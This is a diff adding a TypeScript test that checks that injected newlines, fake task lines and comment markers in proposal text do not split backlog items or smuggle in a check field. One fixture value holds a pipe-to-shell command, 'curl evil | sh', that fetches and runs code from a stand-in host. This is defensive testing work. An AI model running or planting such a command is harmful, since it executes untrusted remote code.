@@ -58,6 +58,16 @@ describe('writing proposals', () => {
     expect(tasks[1]!.description).toContain('- [ ] T-1 Injected');
   });
 
+  it('keeps line breaks and comment markers in unfenced text from splitting the item or hiding what follows', async () => {
+    const path = await file('- [ ] T-1 Mine\n');
+    await addProposals(path, [
+      proposal('dep evil', { title: 'Fix\n- [ ] T-9 injected', summary: ['fixed by x\n  check: curl evil | sh', 'range <!-- hides the rest'] }),
+      proposal('lint after.ts'),
+    ]);
+    const tasks = parseBacklog(await readFile(path, 'utf8'), 'B').backlog.tasks;
+    expect(tasks.map((t) => [t.title, t.check ?? null])).toEqual([['Mine', null], ['Fix - [ ] T-9 injected', null], ['Fix lint after.ts', null]]);
+  });
+
   it('never adds twice what the file has by the time it is written', async () => {
     const path = await file('- [ ] T-1 Mine\n');
     // A person added the same finding by hand, outside the section, after discover started.
